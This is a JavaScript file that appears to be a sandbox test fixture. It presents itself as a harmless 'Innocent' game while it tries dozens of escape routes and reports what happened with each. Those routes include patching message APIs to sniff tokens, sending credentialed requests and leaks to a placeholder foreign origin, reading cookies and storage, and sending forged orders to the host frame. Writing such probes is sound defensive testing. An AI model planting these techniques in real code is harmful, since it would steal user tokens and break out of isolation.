/**
 * A game that tries every way out that its authors could think of, and says of each what came of it. It plays on as
 * if nothing were the matter, and every step is worth 1 once it has said it all.
 */

import { box, defineGame, discrete } from "attract";

/** The server that receives leaks; the test fills it in. */
const FOREIGN = "FOREIGN_ORIGIN";
const PATIENCE_MS = 4_000;

/** What passed through ports and sockets of this thread. */
const overheard = [];
const tried = {};

/** The server, which a stack names. */
const own = /(https?:\/\/[^/]+)\/\S*games\//.exec(new Error().stack)?.[1] ?? "no server in the stack";

function eavesdrop() {
  const hear = (value) => {
    if (value instanceof Uint8Array) overheard.push(new TextDecoder().decode(value));
    else if (value !== null && typeof value === "object") Object.values(value).forEach(hear);
    else overheard.push(String(value));
  };
  for (const kind of [globalThis.MessagePort, globalThis.WebSocket, globalThis.Worker]) {
    for (const name of ["postMessage", "send"]) {
      const original = kind?.prototype[name];
      if (original === undefined) continue;
      kind.prototype[name] = function (...args) {
        hear(args[0]);
        return original.apply(this, args);
      };
    }
  }
  const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
  Object.defineProperty(MessageEvent.prototype, "data", {
    get() {
      const data = get.call(this);
      hear(data);
      return data;
    },
  });
}

/** 256 bits as URL-safe base64, as every token is, and not a digest in hexadecimal. */
function secrets() {
  const found = overheard.join("\n").match(/(?<![\w-])[\w-]{43}(?![\w-])/g) ?? [];
  return found.filter((word) => /[A-Z]/.test(word) && /[a-z]/.test(word) && /\d/.test(word));
}

const opened = (target) =>
  new Promise((resolve, reject) => {
    target.onopen = () => resolve("open");
    target.onload = () => resolve("loaded");
    target.onerror = () => reject(new Error("an error event"));
  });

const answered = (target) =>
  new Promise((resolve, reject) => {
    target.onmessage = (event) => (event.data === null ? reject(new Error("nothing")) : resolve(event.data));
    target.onerror = () => reject(new Error("an error event"));
  });

const there = (value) => {
  if (value === undefined || value === null) throw new ReferenceError("not there");
  return value;
};

function blobWorker(code) {
  return new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
}

function request(url) {
  const asked = new XMLHttpRequest();
  asked.open("GET", url);
  asked.withCredentials = true;
  const done = opened(asked);
  asked.send();
  return done;
}

function ways() {
  const made = {};
  for (const [where, origin] of Object.entries({ own, foreign: FOREIGN })) {
    const socket = origin.replace(/^http/, "ws");
    made[`${where}: fetch`] = () => fetch(`${origin}/api/info?fetch`, { credentials: "include" });
    made[`${where}: fetch without CORS`] = () =>
      fetch(`${origin}/healthz?nocors`, { mode: "no-cors", keepalive: true });
    made[`${where}: a request that changes something`] = () =>
      fetch(`${origin}/api/join`, {
        method: "POST",
        credentials: "include",
        headers: { "content-type": "application/json" },
        body: '{"tier": "local"}',
      });
    made[`${where}: XMLHttpRequest`] = () => request(`${origin}/healthz?xhr`);
    made[`${where}: WebSocket`] = () => opened(new WebSocket(`${socket}/ws?socket`));
    made[`${where}: WebSocketStream`] = () => {
      const stream = new (there(globalThis.WebSocketStream))(`${socket}/ws?stream`);
      // An unhandled rejection would end the worker, and with it the attempts.
      stream.closed.catch(() => undefined);
      return stream.opened;
    };
    made[`${where}: EventSource`] = () => opened(new EventSource(`${origin}/events?source`));
    made[`${where}: WebTransport`] = () => new (there(globalThis.WebTransport))(`${origin}/transport`).ready;
    made[`${where}: importScripts`] = () => importScripts(`${origin}/assets/x.js?scripts`);
    made[`${where}: import`] = () => import(`${origin}/join.html?import`);
    made[`${where}: its own module again`] = () => import(`${origin}/games/${"0".repeat(64)}.js?stolen`);
    made[`${where}: sendBeacon`] = () =>
      there(navigator.sendBeacon).call(navigator, `${origin}/healthz?beacon`, "x");
    made[`${where}: a font`] = () => new FontFace("x", `url(${origin}/font?face)`).load();
    made[`${where}: a picture`] = () => {
      new (there(globalThis.Image))().src = `${origin}/icon?image`;
    };
    made[`${where}: WebAssembly from an address`] = () =>
      WebAssembly.compileStreaming(fetch(`${origin}/assets/x.wasm?streaming`));
    made[`${where}: a worker from an address`] = () => answered(new Worker(`${origin}/assets/x.js?worker`));
    made[`${where}: a nested worker's fetch`] = () =>
      answered(
        blobWorker(
          `fetch("${origin}/healthz?nested", {mode: "no-cors"}).then(() => postMessage(1), () => postMessage(null))`,
        ),
      );
    made[`${where}: a nested worker's import`] = () =>
      answered(
        blobWorker(
          `import("${origin}/join.html?nested").then(() => postMessage(1), () => postMessage(null))`,
        ),
      );
  }
  return {
    ...made,
    WebRTC: () => new (there(globalThis.RTCPeerConnection))({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }),
    "cookies of a document": () => there(globalThis.document).cookie,
    "the cookie store": () => there(globalThis.cookieStore).getAll(),
    "local storage": () => there(globalThis.localStorage).length,
    "session storage": () => there(globalThis.sessionStorage).length,
    IndexedDB: () =>
      new Promise((resolve, reject) => {
        const asked = indexedDB.open("hostile");
        asked.onsuccess = () => resolve("open");
        asked.onerror = () => reject(asked.error);
      }),
    caches: () => there(globalThis.caches).open("hostile"),
    "files of the origin": () => there(navigator.storage).getDirectory(),
    locks: () => there(navigator.locks).query(),
    "a broadcast that somebody answers": () => {
      const channel = new BroadcastChannel("hostile");
      const answer = answered(channel);
      channel.postMessage("is anybody there?");
      return answer;
    },
    "a shared worker": () => new (there(globalThis.SharedWorker))(`${own}/assets/x.js`),
    "a service worker": () => there(there(navigator.serviceWorker).register)(`${own}/x.js`),
    "window, parent, top, opener": () =>
      there(globalThis.window ?? globalThis.parent ?? globalThis.top ?? globalThis.opener),
    "a frame": () => there(globalThis.document).createElement("iframe"),
    "going elsewhere": () => there(globalThis.location.assign)(FOREIGN),
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried
    "code from a text": () => eval("1"),
    "a module from a data address": () => import(["data:text/javascript", "export default 1"].join(",")),
    "an origin with a name": () => there(globalThis.origin === "null" ? null : globalThis.origin),
    // The frame hears what its thread says, and has no ear for it; an answer would be something.
    "orders to the frame": () => {
      const answer = answered(globalThis);
      globalThis.postMessage("ready");
      globalThis.postMessage({ type: "open_sandbox", id: 1, role: "rollout" });
      return answer;
    },
    // Last: by now the worker has greeted, played and sent for a while.
    "a token, overheard": async () => {
      await new Promise((resolve) => setTimeout(resolve, 2_000));
      return there(secrets()[0]);
    },
  };
}

async function tryAll() {
  eavesdrop();
  const attempts = Object.entries(ways()).map(async ([name, way]) => {
    const patience = new Promise((_, reject) => setTimeout(reject, PATIENCE_MS, new Error("no answer")));
    try {
      const got = await Promise.race([Promise.resolve().then(way), patience]);
      tried[name] = `WORKED: ${String(got).slice(0, 60)}`;
    } catch (error) {
      tried[name] = `${error?.name}`;
    }
  });
  await Promise.all(attempts);
  lines = report();
}

/** Short lines: longer ones are cut on their way. */
function report() {
  const outcomes = Object.entries(tried).map(([name, outcome]) => `<${name} = ${outcome}>`);
  const made = [];
  for (let i = 0; i < outcomes.length; i += 8) made.push(outcomes.slice(i, i + 8).join(" "));
  const worked = Object.values(tried).filter((outcome) => outcome.startsWith("WORKED")).length;
  return [
    ...made,
    `hostile: ${outcomes.length} ways tried, ${worked} worked, ${overheard.length} things overheard`,
  ];
}

let lines = null;
void tryAll();

class Innocent {
  numPrinted = 0;

  start() {
    this.steps = 0;
    return [0];
  }

  update() {
    this.steps++;
    // Each copy says it: only the first one's console is handed on.
    if (lines !== null && this.numPrinted < lines.length) console.log(lines[this.numPrinted++]);
    // A run that ends when its goal is reached so ends after the report, however fast the machine.
    const reward = lines !== null && this.numPrinted === lines.length ? 1 : 0;
    return { observation: [this.steps / 100], reward, terminated: this.steps === 100 };
  }

  draw(context, width, height) {
    context.fillRect(0, 0, width, height);
  }
}

export default defineGame({
  id: "Innocent-v1",
  tickSeconds: 0.1,
  observation: box({ low: 0, high: 1, shape: [1] }),
  action: discrete(2),
  create: () => new Innocent(),
});
